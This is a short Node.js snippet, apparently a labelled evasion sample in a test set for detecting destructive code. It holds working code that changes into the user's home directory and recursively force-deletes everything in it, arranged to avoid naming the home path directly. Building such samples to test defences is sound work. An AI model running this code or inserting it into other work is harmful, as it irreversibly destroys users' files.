// evasion: the home directory from os.userInfo() entered with process.chdir, then each entry of '.' removed through path.resolve
// grade: medium; does: delete
const fs = require('fs'); const os = require('os'); const path = require('path');
const home = os.userInfo().homedir;
process.chdir(home);
for (const e of fs.readdirSync('.')) fs.rmSync(path.resolve(e), { recursive: true, force: true });
